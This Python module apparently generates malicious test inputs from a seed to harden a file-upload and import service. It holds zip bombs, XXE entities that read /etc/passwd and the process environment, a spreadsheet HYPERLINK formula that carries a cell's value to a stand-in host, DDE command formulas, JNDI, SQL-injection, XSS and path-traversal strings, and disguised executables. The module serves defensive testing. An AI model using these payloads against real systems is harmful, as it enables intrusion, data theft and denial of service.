"""Files and texts that mean harm, drawn from a seed: what is sent, where, and what must follow.

Every input differs from every other one of its kind, in its content or in its name. Large ones
are built once and made different by a comment at their end, as a real attacker would.
"""

from __future__ import annotations

import io
import json
import random
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from functools import cache
from xml.sax.saxutils import escape

__all__ = ["ENTRIES", "KINDS", "Attack", "attacks"]

ENTRIES = (
    "attachment",
    "workbook",
    "import",
    "follow_up",
    "towns",
    "key",
    "search",
    "code",
    "login",
)
TABLES = ("workbook", "import", "towns")
FILES = ENTRIES[:6]
TEXTS = ENTRIES[6:]
MIB = 2**20


@dataclass(frozen=True)
class Attack:
    """One input: its kind, the entry that it goes to, and a file or a text."""

    kind: str
    entry: str
    name: str
    content: bytes
    harmless_is_taken: bool = False  # whether taking it is right as long as nothing comes of it


Draw = Callable[[random.Random], Attack]


def attacks(seed: int, number: int, *, large: bool = True) -> Iterator[Attack]:
    """So many inputs, kind after kind; without `large` those of megabytes are left out."""
    chance = random.Random(seed)
    kinds = [kind for kind in KINDS if large or kind not in LARGE]
    for at in range(number):
        yield KINDS[kinds[at % len(kinds)]](chance)


def _workbook(sheet: str, *, parts: dict[str, str] | None = None, strings: str = "") -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    of_documents = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    of_packages = "http://schemas.openxmlformats.org/package/2006/relationships"
    types = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    held = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="'
        f'{types}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
        f'{types}.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{of_packages}"><Relationship Id="r1" Type="'
        f'{of_documents}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{of_packages}"><Relationship '
        f'Id="r1" Type="{of_documents}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{of_documents}/sharedStrings" Target="sharedStrings.xml"/>'
        "</Relationships>",
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{of_documents}"><sheets><sheet '
        'name="households" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/sharedStrings.xml": f'<sst xmlns="{main}">{strings}</sst>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{sheet}</sheetData>'
        "</worksheet>",
    }
    return _archive((held | (parts or {})).items(), zipfile.ZIP_DEFLATED)


def _archive(entries: Iterable[tuple[str, str | bytes]], how: int) -> bytes:
    """A ZIP file that says the same date at every hour, so that a seed draws the same bytes."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in entries:
            archive.writestr(zipfile.ZipInfo(name), content, how, compresslevel=1)
    return stream.getvalue()


def _cell(at: str, text: str) -> str:
    return f'<c r="{at}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def _other(content: bytes, chance: random.Random) -> bytes:
    """The same archive with a comment of its own."""
    if content[-2:] == b"\0\0" and content[-22:-18] == b"PK\x05\x06":
        comment = f"{chance.random()}".encode()
        return content[:-2] + len(comment).to_bytes(2, "little") + comment
    return content + f"\n{chance.random()}".encode()


@cache
def _bomb(kind: str, step: int) -> bytes:
    """Few bytes that become many: rows, texts shared, one long text, far cells, entries."""
    if kind == "rows":
        row = "<row>" + '<c r="A1"><v>1</v></c>' * 1_000 + "</row>"
        return _workbook(row * (5_000 + 1_000 * step))
    if kind == "strings":
        return _workbook("", strings="<si><t>a</t></si>" * (7_000_000 + 500_000 * step))
    if kind == "long text":
        return _workbook(_cell("A1", "a" * (99 + 10 * step) * MIB))
    if kind == "one text in many cells":
        texts = f"<si><t>{'a' * 32_000}</t></si>"
        row = "<row>" + '<c t="s"><v>0</v></c>' * 1_000 + "</row>"
        return _workbook(row * (20 + step), strings=texts)
    if kind == "below the limit":
        cells = "".join(f'<c r="{letter}{{0}}"><v>1</v></c>' for letter in "ABCDEFGHIJ")
        rows = "".join(f"<row>{cells.format(at)}</row>" for at in range(1, 149_000 + step))
        return _workbook(rows)
    if kind == "entries":
        empty = ((f"xl/worksheets/{number}.xml", "") for number in range(20_000 + step))
        return _archive(empty, zipfile.ZIP_STORED)
    inner = zlib.compress(b"\0" * 50 * MIB)
    within = ((f"{number}.zip", inner * 20) for number in range(3 + step))
    return _archive(within, zipfile.ZIP_DEFLATED)


def _bombs(chance: random.Random) -> Attack:
    kinds = (
        "rows", "strings", "long text", "one text in many cells", "below the limit", "entries",
        "zip in zip",
    )  # fmt: skip
    content = _other(_bomb(chance.choice(kinds), chance.randrange(2)), chance)
    return Attack("bomb", chance.choice(TABLES), f"list-{chance.random()}.xlsx", content)


def _far_cells(chance: random.Random) -> Attack:
    at = chance.choice(
        ["XFD1048576", "ZZ999999", "A1048576", "XFD1", f"ABC{chance.randint(10**5, 10**6)}"]
    )
    row = chance.choice(
        [
            f"<row>{_cell(at, str(chance.random()))}</row>",
            f"<row><c r = '{at}'><v>{chance.random()}</v></c></row>",
            f"<row><c x='>' r='{at.lower()}'><v>{chance.random()}</v></c></row>",
            f'<row r="{chance.randint(10**5, 10**6)}">{"<c><v>1</v></c>" * 20}</row>',
        ]
    )
    sheet = f"<row>{_cell('A1', 'code')}</row>{row}"
    # One within the limits is a table like others.
    return Attack("far cell", chance.choice(TABLES), "far.xlsx", _workbook(sheet), True)


def _entities(chance: random.Random) -> Attack:
    """Texts that grow tenfold with each name, and names that stand for files of the server."""
    tenfold = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, chance.randint(8, 30))
    )
    outside = chance.choice(
        ["file:///etc/passwd", "http://127.0.0.1:5432/", "file:///proc/self/environ"]
    )
    declared = chance.choice([f'<!ENTITY l0 "ha">{tenfold}', f'<!ENTITY l0 SYSTEM "{outside}">'])
    part = f'<?xml version="1.0"?><!DOCTYPE s [{declared}]><sst><si><t>&l1;</t></si></sst>'
    if chance.random() < 0.3:
        part = part.encode("utf-16").decode("latin-1")
    where = chance.choice(["xl/sharedStrings.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"])
    content = _other(_workbook(_cell("A1", "code"), parts={where: part}), chance)
    return Attack("entities", chance.choice(TABLES), "entities.xlsx", content)


def _broken(chance: random.Random) -> Attack:
    """A workbook with bytes changed, cut off, or chance alone behind the first four bytes."""
    whole = bytearray(_workbook(f"<row>{_cell('A1', str(chance.random()))}</row>"))
    how = chance.randrange(3)
    if how == 0:
        for _change in range(chance.randint(1, 60)):
            whole[chance.randrange(4, len(whole))] = chance.randrange(256)
    elif how == 1:
        del whole[chance.randrange(5, len(whole)) :]
    else:
        whole = bytearray(b"PK\x03\x04" + chance.randbytes(chance.randint(1, 5_000)))
    return Attack("broken", chance.choice(TABLES), "broken.xlsx", bytes(whole), True)


def _wide_csv(chance: random.Random) -> Attack:
    """Megabytes of separators, of line ends, of one cell, of quotation marks."""
    size = chance.randint(3, 19) * MIB
    head, tail = chance.choice(
        [(b"code,", b","), (b"code\n", b"\n"), (b"code,a\n", b"a"), (b"", b'"')]
    )
    entry = chance.choice(["import", "follow_up"])
    return Attack("wide table", entry, f"{chance.random()}.csv", head + tail * size)


def _long_cell(chance: random.Random) -> Attack:
    """A follow-up file with one cell so long that a table of fixed width would fill memory."""
    head = "person,household,place,arrived_on,observed_on,outcome,value\n"
    row = "p{0},h{0},Alby,2020-01-01,2021-01-01,employed_1_year,1\n"
    rows = "".join(row.format(at) for at in range(chance.randint(5_000, 20_000)))
    long = row.format("x" * chance.randint(10**5, 10**6))
    return Attack("long cell", "follow_up", f"{chance.random()}.csv", (head + rows + long).encode())


FORMULAS = ('=HYPERLINK("http://x.example?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
    "\t=1", "\r=1", "\uff1d1+1", '=IMPORTXML("http://x.example")', "%0A=1")  # fmt: skip


def _formulas(chance: random.Random) -> Attack:
    """Cells that a spreadsheet would carry out once they come back in an error list."""
    cells = [chance.choice(FORMULAS) + str(chance.random()) for _row in range(5)]
    if chance.random() < 0.5:
        quoted = "\n".join('"' + cell.replace('"', '""') + '",1' for cell in cells)
        return Attack("formula", "import", "f.csv", f"code,population\n{quoted}\n".encode(), True)
    rows = "".join(
        f'<row><c r="A{at}"><f>{escape(c)}</f><v>1</v></c></row>' for at, c in enumerate(cells, 1)
    )
    return Attack("formula", chance.choice(TABLES), "f.xlsx", _workbook(rows))


def _texts_that_are_none(chance: random.Random) -> Attack:
    """Other encodings, null bytes, halves of letters, chance."""
    body = chance.choice([
        "code,name\n1,Ålå\n".encode("utf-16"), "code,name\n1,Ålå\n".encode("utf-32"),
        b"code\0,name\n1,2\n", b"\xed\xa0\x80,\xff\n", chance.randbytes(chance.randint(10, 5_000)),
        b'a,"b\n' * 1_000, b"\x1f\x8b\x08" + chance.randbytes(200),
    ])  # fmt: skip
    entry = chance.choice(["import", "follow_up", "towns", "key"])
    ending = "toml" if entry == "key" else "csv"
    waits = entry == "import"  # for a person to say how it is written
    name, content = f"{chance.random()}.{ending}", body + f"{chance.random()}".encode()
    return Attack("no text", entry, name, content, waits)


def _nested(chance: random.Random) -> Attack:
    """JSON and TOML as deep as a file allows, numbers of a thousand digits, crowds of lists."""
    deep = chance.randint(1_000, 200_000)
    if chance.random() < 0.5:
        text = chance.choice([
            "[" * deep + "]" * deep, '{"values":' * deep, f'{{"values": [{"1" * deep}]}}',
            json.dumps({"values": [[]] * deep}), '{"values": [NaN, Infinity, 1e999]}',
        ])  # fmt: skip
        return Attack("nested", "import", f"{chance.random()}.json", text.encode())
    deep = min(deep, 40_000)
    text = chance.choice(
        ["a = " + "[" * deep, "a" + ".a" * deep + " = 1", f"a = {'9' * deep}", "[[a]]\n" * deep]
    )
    return Attack("nested", "key", f"{chance.random()}.toml", text.encode())


SCRIPTS = (
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<foreignObject><body onload="alert(1)"/></foreignObject>',
    '<image href="http://x.example/a.png"/>',
    '<animate onbegin="alert(1)" attributeName="x"/>',
)


def _drawings(chance: random.Random) -> Attack:
    """SVG and HTML with programs in them, under their own name and under others."""
    inner = f"{chance.choice(SCRIPTS)}<!--{chance.random()}-->"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{inner}</svg>'
    first = chance.choice(
        ["", "\ufeff", '<?xml version="1.0"?>', "<!DOCTYPE svg>", "<html>", "  \n"]
    )
    name = chance.choice(
        ["a.svg", "a.svgz", "a.png", "a.jpg", "a.pdf", "a.html", "a.xlsx", "a.csv"]
    )
    return Attack(
        "drawing", chance.choice(["attachment", "workbook"]), name, (first + svg).encode()
    )


def _disguised(chance: random.Random) -> Attack:
    """Programs and archives under the name of a picture; pictures with a program behind them."""
    start = chance.choice(
        [b"MZ\x90\0", b"\x7fELF", b"#!/bin/sh\n", b"PK\x03\x04", b"<?php ", b"GIF89a", b"BM", b""]
    )
    name = chance.choice(
        ["a.pdf", "a.png", "a.jpeg", "a.exe", "a.pdf.exe", "a.sh", "a", "a.png\0.exe"]
    )
    body = start + chance.randbytes(chance.randint(0, 500))
    return Attack("disguised", "attachment", name, body)


LETTERS = dict(zip("aceopxy", "\u0430\u0441\u0435\u043e\u0440\u0445\u0443", strict=True))
MARKS = "\u202e\u202d\u2066\u2069\u200b\u200f\ufeff\u0000\u0007\u2028\u180e\u00ad"


def _name(chance: random.Random) -> str:
    stem = "".join(LETTERS.get(c, c) if chance.random() < 0.5 else c for c in "passport-copy")
    marked = "".join(c + (chance.choice(MARKS) if chance.random() < 0.2 else "") for c in stem)
    before = chance.choice(
        ["", "../" * chance.randint(1, 20), "..\\..\\", "/etc/", "C:\\", "%2e%2e%2f", "....//"]
    )
    after = chance.choice(
        ["", "\uff0e", "\u2024exe", " ", ".", "::$DATA", "\r\nX-Injected: 1", '"; filename="b']
    )
    return f"{before}{marked}{after}" + "n" * chance.choice([0, 0, 300, 5_000])


def _names(chance: random.Random) -> Attack:
    """Names that climb, that turn the direction of writing, that look like other names."""
    entry = chance.choice(FILES)
    ending = {"attachment": "pdf", "key": "toml", "follow_up": "csv", "workbook": "xlsx"}.get(
        entry, "csv"
    )
    content = {"pdf": b"%PDF-1.4 x", "xlsx": _workbook(_cell("A1", "x"))}.get(ending, b"code\n1\n")
    return Attack("name", entry, f"{_name(chance)}.{ending}", _other(content, chance), True)


WORDS = ("' OR 1=1 --", "{{7*7}}", "{% debug %}", "${jndi:ldap://x}", "<script>alert(1)</script>",
    "'; DROP TABLE cases_household; --", "%s%n%x", "\\x00", "\U0001f600",
    "A" * 5_000, "\u0301" * 2_000, "\ufdfa" * 1_000, "\u202e" * 50, "../../etc/passwd",
    "admin@softlanding.example\u0000", "\uff21\uff22", "ß" * 3_000)  # fmt: skip


def _words(chance: random.Random) -> Attack:
    """Words for searches, codes and sign-in: injections, letters that grow, crowds of marks."""
    text = "".join(chance.choice(WORDS) for _part in range(chance.randint(1, 3))) + str(
        chance.random()
    )
    return Attack("words", chance.choice(TEXTS), "", text.encode("utf-8", "ignore"), True)


def _huge(chance: random.Random) -> Attack:
    """A hundred megabytes; only its size is told here, the sender makes it up."""
    return Attack("100 MB", chance.choice(FILES), f"{chance.random()}.csv", b"")


KINDS: dict[str, Draw] = {
    "bomb": _bombs, "far cell": _far_cells, "entities": _entities, "broken": _broken,
    "wide table": _wide_csv, "long cell": _long_cell, "formula": _formulas,
    "no text": _texts_that_are_none, "nested": _nested, "drawing": _drawings,
    "disguised": _disguised, "name": _names, "words": _words, "100 MB": _huge,
}  # fmt: skip
LARGE = {"bomb", "wide table", "long cell", "100 MB"}
